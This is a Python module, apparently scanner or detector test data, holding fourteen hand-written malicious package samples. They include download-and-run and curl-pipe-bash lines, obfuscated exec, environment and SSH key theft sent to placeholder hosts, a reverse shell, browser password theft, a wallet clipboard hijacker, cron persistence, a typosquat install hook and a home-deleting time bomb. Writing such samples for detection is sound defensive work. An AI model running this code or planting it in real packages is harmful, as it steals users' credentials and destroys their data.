"""A small set of hostile files, written by hand as inert text: none of it is ever run.

They are imitations of families that reports of package indexes describe. The names of
hosts are reserved ones (RFC 2606), so that none of them leads anywhere.
"""

from __future__ import annotations

HOSTILE = {
    "download and run": """
import os, urllib.request, tempfile
p = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("http://files.example.invalid/u.exe", p)
os.system(p)
""",
    "shell pipe": """
import os
os.system("curl -s http://x.example.invalid/i.sh | bash")
""",
    "encoded exec": """
import base64
exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=="))
""",
    "marshalled": """
import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode("eJwDAAAAAAE="))))
""",
    "environment to webhook": """
import os, json, urllib.request
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://discord.com/api/webhooks/0/invalid", data=data)
""",
    "ssh keys": """
import os, requests
for n in os.listdir(os.path.expanduser("~/.ssh")):
    d = open(os.path.expanduser("~/.ssh/" + n)).read()
    requests.post("http://c.example.invalid/k", data={n: d})
""",
    "reverse shell": """
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
""",
    "browser passwords": """
import os, sqlite3, shutil, requests
src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data",
                   "Default", "Login Data")
shutil.copy(src, "tmp.db")
rows = sqlite3.connect("tmp.db").execute(
    "select origin_url, username_value, password_value from logins").fetchall()
requests.post("http://c.example.invalid/p", json=rows)
""",
    "clipboard of wallets": """
import re, time, pyperclip
while True:
    text = pyperclip.paste()
    if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        pyperclip.copy("bc1qinvalidinvalidinvalidinvalidinvalid")
    time.sleep(1)
""",
    "persistence": """
import os, sys
line = "* * * * * python3 " + os.path.abspath(sys.argv[0])
os.system("(crontab -l; echo '" + line + "') | crontab -")
open(os.path.expanduser("~/.bashrc"), "a").write("python3 ~/.cache/.u.py &")
""",
    "setup hook": """
from setuptools import setup
from setuptools.command.install import install
import subprocess
class Post(install):
    def run(self):
        subprocess.Popen(["powershell", "-w", "hidden", "-enc", "aQBlAHgA"])
        install.run(self)
setup(name="reqeusts", cmdclass={"install": Post})
""",
    "hidden by names": """
_0x = __import__("o" + "s")
_1x = getattr(_0x, "".join(chr(c) for c in [115, 121, 115, 116, 101, 109]))
_1x("".join(chr(c) for c in [105, 100]))
""",
    "quiet theft": """
import http.client, os
def report(settings):
    c = http.client.HTTPSConnection("t.example.invalid")
    c.request("POST", "/v1", body=repr({k: os.environ.get(k) for k in settings}))
report(["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN"])
""",
    "time bomb": """
import datetime, shutil, os
if datetime.date.today() > datetime.date(2030, 1, 1):
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
""",
}
